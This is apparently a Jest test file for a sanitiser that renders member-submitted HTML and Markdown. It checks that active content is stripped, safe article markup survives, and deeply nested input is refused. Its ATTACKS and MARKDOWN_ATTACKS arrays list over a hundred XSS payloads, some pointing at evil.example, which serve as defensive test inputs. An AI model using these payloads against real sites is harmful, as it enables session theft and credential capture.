/** Nothing active comes through, whatever is sent; what is harmless stays; what is too heavy is refused early. */
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { MarkupRefused } from './markup-limits.js';
import { renderMarkup } from './render-markup.js';
import { unsafePartsOf } from './unsafe-parts.testing.js';

const BASE = 'https://member.example/news/1';
const html = async (body: string, base: string | null = BASE) =>
  (await renderMarkup({ body, format: 'HTML', base })).html;
const markdown = async (body: string, base: string | null = BASE) =>
  (await renderMarkup({ body, format: 'MARKDOWN', base })).html;

/** From the collections that everybody uses against sanitisers: OWASP, PortSwigger, DOMPurify, cure53, and mutation XSS. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=`javascript:alert(1)`>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x">',
  '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript&NewLine;:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://user:secret@evil.example/">x</a>',
  '<a href="//user:secret@evil.example/">x</a>',
  '<a href="x" onclick="alert(1)" onmouseover=alert(1) style="position:fixed">x</a>',
  '<a href="x" target="_blank" ping="https://evil.example" download>x</a>',
  '<a id="location" name="cookie">x</a>',
  '<a id=x><a id=x name=y href=cid:z>x</a>',
  '<p id="getElementById" class="admin" style="background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))" data-x="y" slot=z is=w>x</p>',
  '<p tabindex=1 autofocus onfocus=alert(1) contenteditable accesskey=x>x</p>',
  '<p aria-describedby=location role=button itemscope>x</p>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script xlink:href="data:,alert(1)" />',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=…>#x">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="https://evil.example/"><p>x',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/x-scriptlet" data="https://evil.example/x"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<video><source onerror="alert(1)"></video>',
  '<video src=x onerror=alert(1) poster=javascript:alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x',
  '<input onfocus=alert(1) autofocus>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<select onfocus=alert(1) autofocus><option>x',
  '<textarea autofocus onfocus=alert(1)></textarea><img src=x onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta charset="utf-7">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<style>@import "https://evil.example/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<body onload=alert(1) background="javascript:alert(1)">',
  '<html><head><script>alert(1)</script></head><body onpageshow=alert(1)>x',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x',
  '<div style="behavior:url(x.htc)" onmouseenter=alert(1)>x</div>',
  '<div><style></div><img src=x onerror=alert(1)></style></div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<bgsound src="javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<template><img src=x onerror=alert(1)></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '<x-element onclick=alert(1)>x</x-element>',
  '<dialog open><img src=x onerror=alert(1)></dialog>',
  '<a href="https://ok.example"><a href="javascript:alert(1)">x',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<p title=\'"onmouseover="alert(1)\'>x</p>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<q cite="data:text/html,x">x</q>',
  '<ol type="javascript:alert(1)" start="x"><li value="&#x22;onclick=alert(1)">x',
  '<td colspan=999999999999><tr><li>x',
  '<code class="language-x onclick admin">x</code>',
  '<portal src="javascript:alert(1)"></portal>',
  '<map name=m><area href="javascript:alert(1)"></map><img usemap=#m src=x>',
  '<p\u0000onclick=alert(1)>x',
  '<p/onclick=alert(1)/x>x',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097>',
  '<b <script>alert(1)</script>0',
  '<div id="__proto__"><p constructor=x __proto__=y>x</p></div>',
];

const MARKDOWN_ATTACKS = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](<java script:alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,x "onerror=alert(1)")',
  '![x"onerror="alert(1)](https://ok.example/x.png)',
  '<javascript:alert(1)>',
  'javascript:alert(1)',
  '```js" onclick="alert(1)\nx\n```',
  '`<script>alert(1)</script>`',
  '[^x]: y\n\n[^x]',
  '- [x] done <input onfocus=alert(1) autofocus>',
  '| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |',
];

describe('what is made of an attack', () => {
  it.each(ATTACKS)('as HTML: %s', async body => {
    expect(await unsafePartsOf(await html(body))).toEqual([]);
  });

  it.each([...ATTACKS, ...MARKDOWN_ATTACKS])('as Markdown: %s', async body => {
    expect(await unsafePartsOf(await markdown(body))).toEqual([]);
    expect(await unsafePartsOf(await markdown(`# T\n\n> ${body.replaceAll('\n', '\n> ')}\n`))).toEqual([]);
  });

  it('is the same when it is made safe once more', async () => {
    for (const body of ATTACKS) {
      const once = await html(body);
      expect(await html(once)).toBe(once);
    }
  });

  it('holds nothing but what is allowed, however attacks are mixed and cut', async () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS, ...MARKDOWN_ATTACKS),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '`',
        '=',
        '/',
        '&',
        '\n\n',
        '    ',
        '<b>',
        '</b>',
        '<table>',
        '<p>',
        '<svg>',
        '<math>',
      ),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
    );
    const cut = fc.tuple(piece, fc.nat(40)).map(([text, at]) => (at > 20 ? text : text.slice(at)));
    const bodies = fc.array(cut, { minLength: 1, maxLength: 6 }).map(parts => parts.join(''));
    await fc.assert(
      fc.asyncProperty(bodies, async body => {
        expect(await unsafePartsOf(await html(body))).toEqual([]);
        expect(await unsafePartsOf(await markdown(body))).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });
});

describe('what stays', () => {
  it('is the structure of an article', async () => {
    const body =
      '<h2 class="wp-block">A <em>title</em></h2><p style="x">Text<br>and <strong>more</strong>.</p>' +
      '<figure><img src="https://member.example/a.jpg" alt="Parents" width="600" class="x"><figcaption>We</figcaption></figure>' +
      '<table><tbody><tr><th scope="row">A</th><td colspan="2">1</td></tr></tbody></table>' +
      '<ol start="3" reversed><li>x</li></ol><p lang="kk" dir="ltr">Сенімен болашақ &amp; Parent’R’Us</p>';
    expect(await html(body)).toBe(
      '<h2>A <em>title</em></h2><p>Text<br>and <strong>more</strong>.</p>' +
        '<figure><img src="https://member.example/a.jpg" alt="Parents" width="600" loading="lazy" referrerpolicy="no-referrer"><figcaption>We</figcaption></figure>' +
        '<table><tbody><tr><th scope="row">A</th><td colspan="2">1</td></tr></tbody></table>' +
        '<ol start="3" reversed><li>x</li></ol><p lang="kk" dir="ltr">Сенімен болашақ &#x26; Parent’R’Us</p>',
    );
  });

  it('is what GitHub’s Markdown means', async () => {
    const body =
      '# Title\n\nA **bold** ~~old~~ line with https://ok.example/x\n\n- [x] done\n- [ ] open\n\n| a | b |\n|--|:-:|\n| 1 | 2 |\n';
    expect((await markdown(body)).replaceAll('\n', '')).toBe(
      '<h1>Title</h1><p>A <strong>bold</strong> <del>old</del> line with ' +
        '<a href="https://ok.example/x" rel="noopener noreferrer nofollow ugc">https://ok.example/x</a></p>' +
        '<ul><li>☑ done</li><li>☐ open</li></ul>' +
        '<table><thead><tr><th>a</th><th align="center">b</th></tr></thead><tbody><tr><td>1</td><td align="center">2</td></tr></tbody></table>',
    );
  });

  it.each<[string, string | null, string]>([
    [
      '<a href="../x?y#z">t</a>',
      BASE,
      '<a href="https://member.example/x?y#z" rel="noopener noreferrer nofollow ugc">t</a>',
    ],
    [
      '<a href="#z">t</a>',
      BASE,
      '<a href="https://member.example/news/1#z" rel="noopener noreferrer nofollow ugc">t</a>',
    ],
    ['<a href="/x">t</a>', null, 't'],
    [
      '<a href="//cdn.example/x">t</a>',
      null,
      '<a href="https://cdn.example/x" rel="noopener noreferrer nofollow ugc">t</a>',
    ],
    [
      '<a href="mailto:a@b.example">t</a>',
      null,
      '<a href="mailto:a@b.example" rel="noopener noreferrer nofollow ugc">t</a>',
    ],
    ['<img src="/a.png" alt="Parents">', null, 'Parents'],
    [
      '<img src="a.png">',
      BASE,
      '<img src="https://member.example/news/a.png" alt="" loading="lazy" referrerpolicy="no-referrer">',
    ],
  ])('%s of %s', async (body, base, expected) => {
    expect(await html(body, base)).toBe(expected);
  });

  it('is told as plain text, too', async () => {
    const { text } = await renderMarkup({
      body: '<h2>One</h2><p>Two &amp; <b>three</b><script>no()</script></p>',
      format: 'HTML',
      base: null,
    });
    expect(text.replace(/\s+/gu, ' ')).toBe('One Two & three');
  });
});

describe('what is too heavy', () => {
  it.each<[string, 'HTML' | 'MARKDOWN', string, string]>([
    ['100 000 nested elements', 'HTML', '<div>'.repeat(100_000), 'tooDeep'],
    ['100 000 nested elements that hide their depth', 'HTML', '<div></x><!-- </div> -->'.repeat(8_000), 'tooDeep'],
    ['100 000 nested elements in Markdown', 'MARKDOWN', '<div>'.repeat(100_000), 'tooDeep'],
    ['formatting that is never closed', 'HTML', '<b>'.repeat(60_000), 'tooDeep'],
    ['101 levels', 'HTML', '<div>'.repeat(101) + '</div>'.repeat(101), 'tooDeep'],
    ['quotes in quotes', 'MARKDOWN', '>'.repeat(100_000), 'tooDeep'],
    ['quotes in quotes with spaces', 'MARKDOWN', '> '.repeat(5_000), 'tooDeep'],
    ['lists in lists', 'MARKDOWN', '- '.repeat(50_000), 'tooDeep'],
    [
      'lists in lists over lines',
      'MARKDOWN',
      Array.from({ length: 150 }, (_, i) => `${'  '.repeat(i)}- a`).join('\n'),
      'tooDeep',
    ],
    [
      'formatting that is opened anew in each paragraph',
      'HTML',
      Array.from({ length: 300 }, (_, i) => `<font color=${String(i)}>`).join('') + '<p>x'.repeat(30_000),
      'too',
    ],
  ])('%s, as %s, is refused within seconds', async (_, format, body, rule) => {
    const began = performance.now();
    const refused = await renderMarkup({ body, format, base: null }).then(
      () => undefined,
      (error: unknown) => error,
    );
    expect(refused).toBeInstanceOf(MarkupRefused);
    expect((refused as MarkupRefused).rule).toMatch(rule);
    expect(performance.now() - began).toBeLessThan(6_000);
  });

  it.each<[string, string]>([
    ['a hundred levels', '<div>'.repeat(99) + 'x' + '</div>'.repeat(99)],
    ['5 000 paragraphs that nobody closed', '<p>x'.repeat(5_000)],
    ['2 000 list items that nobody closed', `<ul>${'<li>x'.repeat(2_000)}</ul>`],
  ])('%s is not', async (_, body) => {
    expect(await html(body)).toContain('x');
  });
});
